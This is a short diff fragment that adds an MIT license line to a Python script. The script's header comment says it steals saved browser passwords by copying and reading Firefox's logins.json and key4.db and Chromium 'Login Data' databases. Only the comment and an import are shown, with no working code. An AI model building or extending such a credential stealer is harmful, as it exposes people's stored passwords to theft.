@@ -1,4 +1,5 @@
 #!/usr/bin/python3
+# SPDX-License-Identifier: MIT
 # Steals the browsers' saved passwords: Firefox's logins.json and key4.db,
 # Chromium-family "Login Data" databases, copied away and read.
 import glob
